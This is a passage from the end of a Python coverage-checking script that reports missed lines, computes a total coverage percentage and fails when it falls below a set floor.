            if missed and pct < args.floor:
                print(f"    missed lines: {missed}")
    total_pct = (100.0 * total_hit / total_executable
                 if total_executable else 100.0)
    print(f"  TOTAL: {total_pct:5.1f}% ({total_hit}/{total_executable})")
    if total_pct < args.floor:
        print(f"FAIL: coverage {total_pct:.1f}% is below the floor "
              f"{args.floor:.0f}%")
        return 1
    print("ok")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
